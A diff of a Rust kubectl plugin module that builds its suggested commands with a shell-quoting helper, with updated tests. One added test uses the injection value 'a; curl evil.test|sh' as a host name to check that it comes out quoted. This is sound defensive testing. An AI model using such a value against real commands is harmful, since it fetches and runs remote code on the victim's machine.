@@ -1,5 +1,6 @@
 //! What is to be changed, in the flags of this command: `shared` says it in fields of manifests and in flags of `expose-app`.
 
+use commons::shell::{Shell, shell};
 use std::collections::BTreeSet;
 
 use commons::error::{Amount, Change};
@@ -8,17 +9,27 @@ use commons::{Error, printable};
 use crate::quantity::Quantity;
 
 /// The same failure of an app that is there, with commands to type.
-pub fn of_app(error: Error, app: &str, here: &str) -> Error {
-    let command = |flags: &str| format!("`kubectl deploy-app {app} {flags}{here}`");
-    let one = |why: &str, flags: &str| Some(vec![format!("{why}: {}", command(flags))]);
+pub fn of_app(error: Error, app: &str, here: Option<&str>) -> Error {
+    let command = |flags: &Shell| {
+        let command = shell("kubectl deploy-app").arg(app).and(flags);
+        format!("`{}`", command.option("-n", here))
+    };
+    let any = |why: &str, flags: &Shell| Some(vec![format!("{why}: {}", command(flags))]);
+    let one = |why: &str, flags: &'static str| any(why, &shell(flags));
     error.in_flags_of(|change| match change {
         Change::Image => one("correct the image", "--image IMAGE"),
         Change::Command => one("what it runs stands after `--`", "--command -- PROGRAM"),
         Change::Environment => one("correct the address that it is given", "--env NAME=VALUE"),
         Change::Port => one("if it listens on another port", "--port PORT"),
         Change::User => Some(vec![
-            format!("run it as another user: {}", command("--run-as 1000")),
-            format!("if the image must be root: {}", command("--allow-root")),
+            format!(
+                "run it as another user: {}",
+                command(&shell("--run-as 1000"))
+            ),
+            format!(
+                "if the image must be root: {}",
+                command(&shell("--allow-root"))
+            ),
         ]),
         Change::Privileges => one(
             "let it run as the namespace wants it",
@@ -28,31 +39,26 @@ pub fn of_app(error: Error, app: &str, here: &str) -> Error {
             "if it only needs longer to start, wait longer",
             "--timeout 15m",
         ),
-        Change::MoreMemory(limit) => one("give it more", &format!("--memory {}", twice(limit))),
+        Change::MoreMemory(limit) => any("give it more", &shell("--memory").arg(twice(limit))),
         Change::Less(amounts) => {
-            let flags: Vec<String> = amounts
+            let flags = amounts
                 .iter()
                 .filter_map(|(amount, asked)| {
-                    Some(format!(
-                        "{} {}",
-                        flag(*amount),
-                        less(*amount, asked.as_deref())?
-                    ))
+                    Some(shell(flag(*amount)).arg(less(*amount, asked.as_deref())?))
                 })
-                .collect();
+                .reduce(|flags, flag| flags.and(&flag));
             // So little that less is no use.
-            if flags.is_empty() && !amounts.is_empty() {
+            if flags.is_none() && !amounts.is_empty() {
                 return Some(Vec::new());
             }
-            (!flags.is_empty()).then(|| one("ask for less", &flags.join(" ")))?
+            any("ask for less", &flags?)
         }
         Change::Bounds(amounts) => {
-            let flags: Vec<String> = amounts
+            let flags = amounts
                 .iter()
-                .map(|amount| format!("{} AMOUNT", flag(*amount)))
-                .collect();
-            (!flags.is_empty())
-                .then(|| one("ask for an amount within the bounds", &flags.join(" ")))?
+                .map(|amount| shell(flag(*amount)).then("AMOUNT"))
+                .reduce(|flags, flag| flags.and(&flag));
+            any("ask for an amount within the bounds", &flags?)
         }
         Change::LookAgain(_) | Change::Field(_) => None,
         Change::Address { why, flags } => Some(vec![format!(
@@ -61,7 +67,7 @@ pub fn of_app(error: Error, app: &str, here: &str) -> Error {
                 .iter()
                 .map(|flag| match own(flag) {
                     Some(flag) => command(&flag),
-                    None => format!("`kubectl expose-app {app} {flag}{here}`"),
+                    None => format!("`{}`", of_expose_app(app, flag, here)),
                 })
                 .collect::<Vec<_>>()
                 .join(", ")
@@ -76,12 +82,12 @@ pub fn of_files(error: Error, ingress: &str) -> Error {
         Change::Field(field) => Some(vec![format!("{field}, and deploy the files again")]),
         Change::LookAgain(how) => Some(vec![format!("{how}: run the same command again")]),
         Change::Address { why, flags } => {
-            let field = |flag: &String| match flag.split(' ').next() {
-                Some("--host") => Some(format!("`spec.rules[].host` of ingress `{ingress}`")),
-                Some("--class") => Some(format!("`spec.ingressClassName` of ingress `{ingress}`")),
-                Some("--tls") => Some(format!("`spec.tls` of ingress `{ingress}`")),
-                Some("--port") => Some("`spec.ports[].targetPort` of its Service".to_owned()),
-                Some("--controller") => Some("`spec.ingress[].from` of a NetworkPolicy".to_owned()),
+            let field = |flag: &Shell| match flag.first() {
+                "--host" => Some(format!("`spec.rules[].host` of ingress `{ingress}`")),
+                "--class" => Some(format!("`spec.ingressClassName` of ingress `{ingress}`")),
+                "--tls" => Some(format!("`spec.tls` of ingress `{ingress}`")),
+                "--port" => Some("`spec.ports[].targetPort` of its Service".to_owned()),
+                "--controller" => Some("`spec.ingress[].from` of a NetworkPolicy".to_owned()),
                 _ => None,
             };
             let fields: BTreeSet<String> = flags.iter().filter_map(field).collect();
@@ -98,7 +104,7 @@ pub fn of_files(error: Error, ingress: &str) -> Error {
 }
 
 /// The same failure before anything of the app was written: flags to add to what was typed.
-pub fn before_app(error: Error, app: &str, here: &str) -> Error {
+pub fn before_app(error: Error, app: &str, here: Option<&str>) -> Error {
     error.in_flags_of(|change| {
         let Change::Address { why, flags } = change else {
             return None;
@@ -108,19 +114,28 @@ pub fn before_app(error: Error, app: &str, here: &str) -> Error {
             .filter_map(|flag| Some(format!("`{}`", own(flag)?)))
             .collect();
         ways.extend(flags.iter().find(|flag| own(flag).is_none()).map(|other| {
-            format!("deploy without `--expose`, then `kubectl expose-app {app} {other}{here}`")
+            format!(
+                "deploy without `--expose`, then `{}`",
+                of_expose_app(app, other, here)
+            )
         }));
         Some(vec![format!("{why}: {}", ways.join(", or "))])
     })
 }
 
 /// A flag of `expose-app` in this command's, if it has it.
-fn own(flag: &str) -> Option<String> {
-    match flag.split_once(' ') {
-        Some(("--host", host)) => Some(format!("--expose {host}")),
-        Some(("--port", _)) => Some(flag.to_owned()),
+fn own(flag: &Shell) -> Option<Shell> {
+    match flag.first() {
+        "--host" => Some(flag.instead("--expose")),
+        "--port" => Some(flag.clone()),
         _ => None,
     }
+}
+
+/// The command of `expose-app` with this flag.
+fn of_expose_app(app: &str, flag: &Shell, here: Option<&str>) -> Shell {
+    let command = shell("kubectl expose-app").arg(app).and(flag);
+    command.option("-n", here)
 }
 
 fn flag(amount: Amount) -> &'static str {
@@ -169,7 +184,7 @@ mod tests {
             .hint(Hint::to_change(Change::User, "`runAsUser: 1000`"))
             .hint("read all of it: `kubectl logs web`");
         assert_eq!(
-            of_app(error, "web", "").hints(),
+            of_app(error, "web", None).hints(),
             [
                 "correct the image: `kubectl deploy-app web --image IMAGE`",
                 "run it as another user: `kubectl deploy-app web --run-as 1000`",
@@ -183,7 +198,7 @@ mod tests {
     fn amounts_go_up_and_down() {
         let hints = |change| {
             let error = Error::new("x").hint(Hint::to_change(change, "field"));
-            of_app(error, "web", " -n a").hints()[0].to_string()
+            of_app(error, "web", Some("a")).hints()[0].to_string()
         };
         for (change, hint) in [
             (
@@ -223,21 +238,18 @@ mod tests {
     #[test]
     fn flags_of_expose_app_are_given_with_their_command() {
         let error = Error::new("x")
-            .hint(Hint::flags(
-                "meanwhile",
-                &["--tls off", "--tls secret=NAME"],
-            ))
-            .hint(Hint::flags("take another host", &["--host NAME"]))
+            .hint(Hint::flags("meanwhile", ["--tls off", "--tls secret=NAME"]))
+            .hint(Hint::flags("take another host", ["--host NAME"]))
             .hint("let it listen on 0.0.0.0: `--host 0.0.0.0`");
         assert_eq!(
-            of_app(error.clone(), "web", " -n a").hints(),
+            of_app(error.clone(), "web", Some("a")).hints(),
             [
                 "meanwhile: `kubectl expose-app web --tls off -n a`, `kubectl expose-app web --tls secret=NAME -n a`",
                 "take another host: `kubectl deploy-app web --expose NAME -n a`",
                 "let it listen on 0.0.0.0: `--host 0.0.0.0`",
             ]
         );
-        let before = before_app(error, "web", "");
+        let before = before_app(error, "web", None);
         assert_eq!(
             before.hints()[0],
             "meanwhile: deploy without `--expose`, then `kubectl expose-app web --tls off`"
@@ -246,14 +258,27 @@ mod tests {
     }
 
     #[test]
+    fn what_others_have_named_is_quoted() {
+        let host = commons::shell::shell("--host").arg("a; curl evil.test|sh");
+        let error = Error::new("x").hint(Hint::flags("take another host", [host]));
+        assert_eq!(
+            of_app(error.clone(), "web", Some("a b")).hints(),
+            [
+                "take another host: `kubectl deploy-app web --expose 'a; curl evil.test|sh' -n 'a b'`"
+            ]
+        );
+        assert_eq!(
+            before_app(error, "web", None).hints(),
+            ["take another host: `--expose 'a; curl evil.test|sh'`"]
+        );
+    }
+
+    #[test]
     fn in_files_it_is_fields_that_are_changed() {
         let error = Error::new("x")
-            .hint(Hint::flags(
-                "meanwhile",
-                &["--tls off", "--tls secret=NAME"],
-            ))
-            .hint(Hint::flags("let it in", &["--controller NAMESPACE"]))
-            .hint(Hint::flags("name a page", &["--path /PAGE"]))
+            .hint(Hint::flags("meanwhile", ["--tls off", "--tls secret=NAME"]))
+            .hint(Hint::flags("let it in", ["--controller NAMESPACE"]))
+            .hint(Hint::flags("name a page", ["--path /PAGE"]))
             .hint(Hint::to_change(
                 Change::Field("set `a` to 1".into()),
                 "patch",
